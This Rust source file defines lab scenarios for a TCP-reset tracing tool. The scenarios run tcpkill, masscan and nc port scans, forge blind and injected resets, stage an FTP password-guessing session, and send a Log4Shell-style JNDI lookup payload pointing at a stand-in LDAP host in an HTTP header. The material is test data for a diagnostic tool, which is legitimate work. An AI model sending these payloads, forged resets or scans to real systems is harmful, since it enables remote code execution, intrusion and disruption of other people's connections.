//! Security at work: scanners, tools that cut connections, boxes that inject, strangers that guess.

use std::iter;
use std::net::SocketAddr;
use std::thread;

use anyhow::{Result, ensure};
use rst_tracer::demo::forge::Forgery;
use rst_tracer::demo::frame::{ACK, FIN, PSH, RST, SYN};
use rst_tracer::demo::lab::Place;
use rst_tracer::demo::nft::Hook;
use rst_tracer::demo::scenarios::{Listed, RAW_CLIENT_PORT, Scene, answer_of_the_dead};
use rst_tracer::demo::truth::{
    Connection, Effect, Family, GroundTruth, Maker, Reset, Sender, Side, Stage,
};
use rst_tracer::demo::{sockets, wait};

use super::super::injected::recipes::noise;
use super::super::injected::stranger::Stranger;
use super::super::injected::watcher::{Heard, Trigger, heard_at_rest, shoot, watched};
use super::super::injected::{forged, volley};
use super::super::second_exam::filter::{
    AFTER_RESET, Cause, broken, late, port_after, shout, talk,
};
use super::super::servers::program::{Folder, command, run};
use super::super::third_exam::common::{calls_with, ms, passed, source, target, with};

pub(super) const LISTED: &[Listed] = &[
    Listed::new(
        "tcpkill_itself",
        "The real tcpkill",
        "dsniff's tcpkill on the router resets the client over its second question; later the \
         server, which was not told, answers.",
        tcpkill_itself,
    )
    .needs(&["tcpkill"])
    .only_over(&[Family::V4])
    .slow(),
    Listed::new(
        "masscan_itself",
        "The real masscan",
        "masscan on the client asks six ports of the server, two of which are open; masscan resets \
         whatever it hears, and its host's TCP resets the SYN-ACKs, too.",
        masscan_itself,
    )
    .needs(&["masscan"])
    .only_over(&[Family::V4])
    .slow(),
    Listed::new(
        "databases_wanted",
        "Somebody looks for databases",
        "nc on the client tries eight well-known ports of the server, one after the other (-z); \
         nothing listens there.",
        databases_wanted,
    )
    .needs(&["nc.openbsd"]),
    Listed::new(
        "page_of_the_authorities",
        "A page of the authorities",
        "A box on the way resets the server over a request and answers the client itself, with a \
         page that says why, and a FIN; the client believes it.",
        page_of_the_authorities,
    ),
    Listed::new(
        "routers_session_swept",
        "A stranger sweeps a session of two routers",
        "A stranger writes seven resets in the server's name into a quiet session, a window apart \
         from each other, with the TTL of a neighbour; none fits.",
        routers_session_swept,
    ),
    Listed::new(
        "walled_victim_answers",
        "A walled victim of a flood answers",
        "A stranger writes four SYNs in the client's name to a port that the server's firewall \
         rejects; the client gets four resets for calls it never made.",
        walled_victim_answers,
    ),
    Listed::new(
        "guesser_of_passwords_cut_off",
        "A guesser of passwords is cut off",
        "An IPS on the way counts three wrong passwords in a session and resets both sides.",
        guesser_of_passwords_cut_off,
    ),
    Listed::new(
        "exploit_in_a_header",
        "An exploit in a header",
        "An IPS on the way reads a known exploit in the header of a second request and resets the \
         server, then the client.",
        exploit_in_a_header,
    ),
];

const INJECTED: Cause = ("security_measure", "injected_reset");
const IPS: Cause = ("security_measure", "ips_active_response");
const BLIND: Cause = ("security_measure", "blind_reset_attempt");
const PROBE: Cause = ("security_measure", "scanner_probe");
const SCANNED: Cause = ("security_measure", "scan_response");
const BACKSCATTER: Cause = ("security_measure", "backscatter");

fn tcpkill_itself(scene: &Scene<'_>) -> Result<GroundTruth> {
    let pair = scene.busy_pair()?;
    pair.settle()?;
    let mut tcpkill = command("tcpkill");
    tcpkill.args(["-i", Place::RouterClientSide.interface()]);
    tcpkill.arg(format!(
        "src host {} and dst port {} and tcp[tcpflags] & tcp-push != 0",
        source(scene),
        scene.server.port()
    ));
    let tcpkill = Folder::new()?.start(&scene.lab.router, &mut tcpkill)?;
    wait::until("tcpkill to listen", || Ok(tcpkill.said().contains("listening on")))?;
    shout(&pair, Side::Client, b"GET /second HTTP/1.1\r\nHost: server.lab\r\n\r\n")?;
    broken(&pair.client)?;
    let resets = volley(Side::Server, Stage::PostData, INJECTED, 3);
    let resets: Vec<Reset> = resets.into_iter().map(Reset::refuted).collect();
    scene.await_resets(&pair.truth("", resets.clone()))?;
    drop(tcpkill);
    late(&pair, Side::Server, b"HTTP/1.1 204 No Content\r\n\r\n")?;
    let done = "first the client, then the server got ECONNRESET";
    Ok(pair.truth(done, [resets, vec![answer_of_the_dead()]].concat()))
}

fn masscan_itself(scene: &Scene<'_>) -> Result<GroundTruth> {
    const OPEN: [u16; 2] = [1, 4];
    const PORTS: u16 = 6;
    let listen = |number| scene.lab.server.run(|| sockets::listen_on(port_after(scene, number), 4));
    let _open = [listen(OPEN[0])?, listen(OPEN[1])?];
    let [ip, first] = target(scene);
    let gateway = scene.raw_from_client(SYN)?.macs.1;
    let gateway = gateway.map(|byte| format!("{byte:02x}")).join("-");
    let ports = format!("{first}-{}", scene.server.port() + PORTS - 1);
    let mut masscan = command("masscan");
    masscan.args(["--interface", Place::Client.interface(), "--router-mac", &gateway]);
    masscan.args(["--source-ip", &source(scene), "--source-port", "61000", "--rate", "50"]);
    masscan.args(["--wait", "1", "--seed", "7", "-p", &ports, &ip]);
    run(&scene.lab.client, &mut masscan)?;
    let mut connections = Vec::new();
    for number in 0..PORTS {
        let at = port_after(scene, number);
        let scanned = Reset::by(Sender::Server, Stage::PostSyn, SCANNED);
        let scanned = scanned.or_as_truly(&["closed_port"]);
        let probe = |stage| Reset::by(Sender::Client, stage, PROBE);
        // Its host's TCP, which knows nothing of the SYN, resets a SYN-ACK; masscan resets whatever
        // it hears, which may not be the first answer: it begins to listen as it begins to ask.
        let first = if OPEN.contains(&number) { probe(Stage::PostSynack) } else { scanned };
        for call in calls_with(scene, at, 1, first)? {
            let seen = scene.lab.sniffer(Place::Client).segments(&call);
            let by_client =
                seen.iter().map(|one| &one.segment).filter(|one| one.src == call.client);
            let further = by_client
                .filter(|one| one.has(RST))
                .count()
                .saturating_sub(OPEN.contains(&number).into());
            ensure!(further < 2, "{further} resets of masscan's at port {number}");
            let resets = iter::once(first).chain(iter::repeat_n(probe(Stage::Closed), further));
            connections.push(with(call.clone(), resets.collect()));
        }
    }
    passed(scene, connections, "masscan had all its answers")
}

fn databases_wanted(scene: &Scene<'_>) -> Result<GroundTruth> {
    const PORTS: [u16; 8] = [1433, 1521, 3306, 5432, 5984, 6379, 9200, 27017];
    let ip = scene.server.ip().to_string();
    let mut connections = Vec::new();
    for port in PORTS {
        let mut nc = command("nc.openbsd");
        nc.args(["-n", "-z", "-w", "2", "-s", &source(scene), &ip, &port.to_string()]);
        Folder::new()?.start(&scene.lab.client, &mut nc)?.wait()?;
        // Only a scan asks for all of them in a row.
        let reset =
            Reset::by(Sender::Server, Stage::PostSyn, SCANNED).or_as_truly(&["closed_port"]);
        connections.extend(calls_with(scene, scene.at(Place::Server, port), 1, reset)?);
    }
    passed(scene, connections, "nc was refused eight times")
}

fn page_of_the_authorities(scene: &Scene<'_>) -> Result<GroundTruth> {
    const ASKED: &[u8] = b"GET / HTTP/1.1\r\nHost: casino.example\r\n\r\n";
    const PAGE: &[u8] = b"HTTP/1.1 403 Forbidden\r\nContent-Length: 9\r\n\r\nForbidden";
    let page = |heard: &Heard| {
        let ours = |plain| Forgery { ttl: 119, ip_id: noise(heard), window: 16_384, ..plain };
        let payload = PAGE.to_vec();
        vec![
            ours(heard.to_server(RST | ACK)),
            Forgery { payload, ..ours(heard.to_client(PSH | FIN | ACK)) },
        ]
    };
    let pair = scene.pair()?;
    pair.settle()?;
    watched(scene, &pair.connection, Trigger::Request(b"casino"), page, || {
        shout(&pair, Side::Client, ASKED)
    })?;
    broken(&pair.server)?;
    sockets::await_error(&pair.client, nix::errno::Errno::EPIPE)?;
    let first = forged(Side::Client, Stage::PostPush, INJECTED).or_as_truly(&["dpi_block"]);
    // The client acknowledges the page, of which the server knows nothing.
    let second = Reset::by(Sender::Server, Stage::PostFin, AFTER_RESET);
    Ok(pair
        .truth("the server got ECONNRESET, then the client EPIPE", vec![first.refuted(), second]))
}

fn routers_session_swept(scene: &Scene<'_>) -> Result<GroundTruth> {
    const COUNT: u32 = 7;
    let keepalive: &[u8] =
        b"\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\0\x13\x04";
    let pair = scene.pair()?;
    talk(&pair, &[(Side::Client, keepalive), (Side::Server, keepalive)])?;
    let stranger = Stranger::arrive(scene)?;
    let seen = pair.last_of(Side::Server, Place::RouterClientSide)?;
    let exact = Forgery { ttl: 255, tos: 0xc0, window: 16_384, ..Forgery::after(&seen, RST | ACK) };
    let mut resets = Vec::new();
    for n in 1..=COUNT {
        // Half of the numbers away, and from there a window of 16 bits at a time.
        let seq = exact.seq.wrapping_add(0x7000_0000 + n * 0xffff);
        stranger.send(&Forgery { seq, ip_id: 0x5a00 + n as u16, ..exact.clone() })?;
        let stage = if n == 1 { Stage::PostData } else { Stage::Closed };
        let reset = Reset::by(Sender::StrangerOnBehalfOf(Side::Server), stage, BLIND);
        resets.push(reset.made_by(Maker::Injector).with_effect(Effect::Ignored).refuted());
        thread::sleep(ms(10));
    }
    let truth = pair.truth("the session was used once more and closed with FINs", resets);
    scene.await_resets(&truth)?;
    // The client hears the session go on, and says that it has.
    talk(&pair, &[(Side::Client, keepalive), (Side::Server, keepalive)])?;
    pair.part()?;
    Ok(truth)
}

fn walled_victim_answers(scene: &Scene<'_>) -> Result<GroundTruth> {
    let _wall = scene.reject(&scene.lab.server, Hook::Input)?;
    let stranger = Stranger::arrive(scene)?;
    let plain = scene.raw_from_client(SYN)?;
    let mut connections = Vec::new();
    for n in 0..4_u16 {
        let src = SocketAddr::new(plain.src.ip(), RAW_CLIENT_PORT + 600 + 17 * n);
        let (seq, ip_id) = (0x6c00_0000 + u32::from(n) * 0x0123_4567, 0x1111 * (n + 1));
        let syn = Forgery { src, seq, ack: 0, ip_id, window: 512, ttl: 117, ..plain.clone() };
        stranger.send(&syn)?;
        let reset = Reset::by(Sender::Server, Stage::NoFlow, BACKSCATTER);
        let reset = reset.made_by(Maker::Netfilter).or_as_truly(&["host_firewall_reject"]);
        connections.push(with(Connection::between(src, scene.server), vec![reset]));
        thread::sleep(ms(20));
    }
    passed(scene, connections, "the client's host saw four resets")
}

/// An IPS that knows both sides' TTLs resets both; they agree afterwards.
fn both_cut(scene: &Scene<'_>, pair: &rst_tracer::demo::scenarios::Pair<'_>) -> Result<()> {
    let heard = heard_at_rest(scene.lab, &pair.connection)?;
    let both = [
        Forgery { ttl: heard.client.ttl, ip_id: noise(&heard), ..heard.to_server(RST | ACK) },
        Forgery {
            ttl: heard.server.ttl,
            ip_id: noise(&heard) ^ 0x2f4e,
            ..heard.to_client(RST | ACK)
        },
    ];
    shoot(scene.lab, &pair.connection, &both)?;
    broken(&pair.server)?;
    broken(&pair.client)
}

fn both_resets(stage: Stage) -> Vec<Reset> {
    [Side::Client, Side::Server]
        .map(|side| forged(side, stage, IPS).or_as_truly(&["injected_reset"]))
        .into()
}

fn guesser_of_passwords_cut_off(scene: &Scene<'_>) -> Result<GroundTruth> {
    let pair = scene.pair()?;
    talk(&pair, &[(Side::Server, b"220 files.lab\r\n"), (Side::Client, b"USER root\r\n")])?;
    for guess in [&b"PASS root\r\n"[..], b"PASS toor\r\n", b"PASS 1234\r\n"] {
        talk(&pair, &[(Side::Server, b"331 password\r\n"), (Side::Client, guess)])?;
        talk(&pair, &[(Side::Server, b"530 no\r\n")])?;
    }
    both_cut(scene, &pair)?;
    Ok(pair.truth("both got ECONNRESET", both_resets(Stage::PostData)))
}

fn exploit_in_a_header(scene: &Scene<'_>) -> Result<GroundTruth> {
    const EXPLOIT: &[u8] = b"GET /login HTTP/1.1\r\nX-Api: ${jndi:ldap://203.0.113.9/a}\r\n\r\n";
    let pair = scene.busy_pair()?;
    talk(&pair, &[(Side::Client, EXPLOIT)])?;
    both_cut(scene, &pair)?;
    let resets = both_resets(Stage::PostData)
        .into_iter()
        .map(|reset| reset.or_as_truly(&["injected_reset", "dpi_block"]));
    Ok(pair.truth("both got ECONNRESET", resets.collect()))
}
